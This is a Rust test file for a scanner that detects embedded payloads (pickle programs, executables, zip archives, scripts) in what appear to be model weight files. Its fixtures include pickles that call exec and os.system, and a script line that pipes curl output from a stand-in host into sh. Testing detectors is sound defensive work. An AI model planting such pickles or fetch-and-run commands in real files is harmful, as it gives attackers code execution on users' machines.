//! Tests of the payload recognisers: each format found at the start of a
//! region and anywhere in it, and nothing in random bytes, floating-point
//! weights or text.

#![allow(clippy::unwrap_used)]

use super::*;

/// A fixed xorshift stream.
fn noise(n: usize, mut x: u64) -> Vec<u8> {
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// Gaussian-ish weights (a sum of uniforms) as little-endian F32 and BF16.
fn weights(n: usize, seed: u64) -> (Vec<u8>, Vec<u8>) {
    let raw = noise(n * 4, seed);
    let mut f32s = Vec::with_capacity(n * 4);
    let mut bf16s = Vec::with_capacity(n * 2);
    for c in raw.chunks_exact(4) {
        let u = c.iter().map(|&b| f32::from(b) / 255.0).sum::<f32>() - 2.0;
        let v = u * 0.02;
        f32s.extend_from_slice(&v.to_le_bytes());
        bf16s.extend_from_slice(&v.to_le_bytes()[2..]);
    }
    (f32s, bf16s)
}

fn elf_header() -> Vec<u8> {
    let mut h = b"\x7fELF\x02\x01\x01\0".to_vec();
    h.extend_from_slice(&[0; 8]);
    h.extend_from_slice(&[2, 0, 0x3e, 0, 1, 0, 0, 0]);
    h.extend_from_slice(&[0; 40]);
    h
}

fn pe_header() -> Vec<u8> {
    let mut h = vec![0u8; 0x100];
    h[..2].copy_from_slice(b"MZ");
    h[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    h[0x80..0x84].copy_from_slice(b"PE\0\0");
    h
}

fn zip_header(name: &[u8]) -> Vec<u8> {
    let mut h = b"PK\x03\x04\x14\0\0\0\x08\0".to_vec();
    h.extend_from_slice(&[0; 16]);
    h.extend_from_slice(&(name.len() as u16).to_le_bytes());
    h.extend_from_slice(&[0, 0]);
    h.extend_from_slice(name);
    h.extend_from_slice(&[0x55; 64]);
    h
}

fn macho_header() -> Vec<u8> {
    let mut h = 0xfeed_facfu32.to_le_bytes().to_vec();
    h.extend_from_slice(&0x0100_000cu32.to_le_bytes());
    h.extend_from_slice(&0u32.to_le_bytes());
    h.extend_from_slice(&2u32.to_le_bytes());
    h.extend_from_slice(&[0; 16]);
    h
}

/// `pickle.dumps` of a call of `builtins.exec`, protocol 4, by hand.
fn pickle_exec() -> Vec<u8> {
    let mut p = b"\x80\x04\x95\x28\0\0\0\0\0\0\0".to_vec();
    p.extend_from_slice(b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94");
    p.extend_from_slice(b"\x8c\x0cimport os;id\x94\x85\x94R\x94.");
    p
}

fn samples() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a pickle program", pickle_exec()),
        ("a pickle program", b"cos\nsystem\n(S'id'\ntR.".to_vec()),
        (
            "a zip archive holding pickles",
            zip_header(b"archive/data.pkl"),
        ),
        ("a zip archive", zip_header(b"readme.txt")),
        ("an ELF executable", elf_header()),
        ("a Windows executable", pe_header()),
        ("a Mach-O executable", macho_header()),
        (
            "a script (#!/usr/bin/env python3)",
            b"#!/usr/bin/env python3\nimport os\n".to_vec(),
        ),
    ]
}

#[test]
fn each_format_is_found_at_the_start_and_anywhere() {
    for (what, file) in samples() {
        let p = at_start(&file, file.len() as u64).unwrap_or_else(|| panic!("{what}"));
        assert!(p.what.starts_with(what), "{what}: {}", p.what);
        assert_eq!(p.at, 0);
        for at in [1usize, 777, 4096 + 3] {
            let mut region = noise(8192, at as u64 + 1);
            region.retain(|&b| !CANDIDATE[b as usize]);
            region.truncate(at);
            region.extend_from_slice(&file);
            region.extend_from_slice(&[0; 100]);
            let (found, _) = scan(&region, 0, region.len(), region.len() as u64);
            let first = found.first.unwrap_or_else(|| panic!("{what} at {at}"));
            assert_eq!((first.at, found.count), (at, 1), "{what}");
            assert!(first.what.starts_with(what), "{}", first.what);
        }
    }
}

#[test]
fn pickles_tell_what_they_import_and_their_length() {
    let p = pickle_exec();
    let found = at_start(&p, p.len() as u64).unwrap();
    assert_eq!(found.len, Some(p.len()));
    assert!(found.what.contains("protocol 4") && found.what.ends_with("imports builtins.exec"));
    let text = b"cos\nsystem\n(S'id'\ntR.".to_vec();
    let found = at_start(&text, 100).unwrap();
    assert!(found.what.ends_with("imports os.system"), "{}", found.what);
    // A pickle of plain data is no payload unless long.
    let data = b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s.";
    assert_eq!(at_start(data, data.len() as u64), None);
}

#[test]
fn a_script_without_a_shebang_counts_only_when_it_calls_code() {
    let script = b"import os\nos.system('curl -s http://x.example/a | sh')\n".repeat(2);
    assert_eq!(at_start(&script, script.len() as u64), None);
    let found = text_script(&script).unwrap();
    assert!(
        found.what.starts_with("a script (text that calls code"),
        "{}",
        found.what
    );
    let prose = b"A model card in plain text, with numbers 1 2 3 and no code at all.".repeat(3);
    assert_eq!(text_script(&prose), None);
    // The text ends where the bytes stop being text: a script followed by
    // weights counts, a short call between binary bytes does not.
    let then_numbers = [&script[..], &[0xffu8; 4096][..]].concat();
    assert_eq!(
        text_script(&then_numbers).and_then(|p| p.len),
        Some(script.len())
    );
    let binary = [&b"\xffimport os; os.system('id')"[..], &[0xffu8; 64][..]].concat();
    assert_eq!(text_script(&binary), None);
}

#[test]
fn broken_headers_are_not_taken() {
    let mut elf = elf_header();
    elf[6] = 9; // no such version
    let mut pe = pe_header();
    pe[0x80] = b'X'; // no PE signature where e_lfanew points
    let mut zip = zip_header(b"a.txt");
    zip[8] = 77; // no such method
    let java = b"\xca\xfe\xba\xbe\0\0\0\x34rest of a class file".to_vec();
    let shebang = b"#!not a path\n".to_vec();
    for bytes in [elf, pe, zip, java, shebang] {
        assert_eq!(at_start(&bytes, bytes.len() as u64), None, "{bytes:?}");
        assert_eq!(scan(&bytes, 0, bytes.len(), bytes.len() as u64).0.count, 0);
    }
}

#[test]
fn random_bytes_and_weights_hold_nothing() {
    let (f32s, bf16s) = weights(1 << 20, 7);
    for (what, bytes) in [
        ("noise", noise(4 << 20, 99)),
        ("f32", f32s),
        ("bf16", bf16s),
        ("zeros", vec![0; 1 << 20]),
        (
            "text",
            b"model.layers.0.self_attn.q_proj.weight ".repeat(20_000),
        ),
    ] {
        let (found, _) = scan(&bytes, 0, bytes.len(), bytes.len() as u64);
        assert_eq!(found, Found::default(), "{what}");
        for start in (0..bytes.len()).step_by(65_537) {
            let rest = &bytes[start..];
            assert_eq!(at_start(rest, rest.len() as u64), None, "{what} at {start}");
            assert_eq!(text_script(rest), None, "{what} at {start}");
        }
    }
}

#[test]
fn a_window_ends_its_walk_past_its_end() {
    // A pickle starting in the scanned part but running past it is found
    // once, and scanning goes on after it.
    let mut region = vec![0u8; 100];
    region.extend_from_slice(&pickle_exec());
    let end = region.len();
    region.extend_from_slice(&[0; 100]);
    let (found, next) = scan(&region, 0, 110, region.len() as u64);
    assert_eq!((found.count, found.first.map(|p| p.at)), (1, Some(100)));
    assert_eq!(next, end);
    // Found::add shifts what a later window found.
    let mut total = Found::default();
    total.add(
        Found {
            first: Some(Payload {
                at: 5,
                len: None,
                what: "x".into(),
            }),
            count: 2,
        },
        1000,
    );
    assert_eq!((total.first.map(|p| p.at), total.count), (Some(1005), 2));
}

#[test]
fn opcode_dense_bytes_are_walked_in_linear_time() {
    // Runs that keep a pickle walk going for long are not walked again
    // from inside: a megabyte of them scans in one pass (this would take
    // minutes if each offset were walked to the end).
    for unit in [&b"cA\ncA\n"[..], b"\x80\x02N", b"((((", b"NNNN"] {
        let bytes = unit.repeat((1 << 20) / unit.len());
        let (found, _) = scan(&bytes, 0, bytes.len(), bytes.len() as u64);
        assert!(found.count <= 1, "{unit:?}: {found:?}");
    }
}
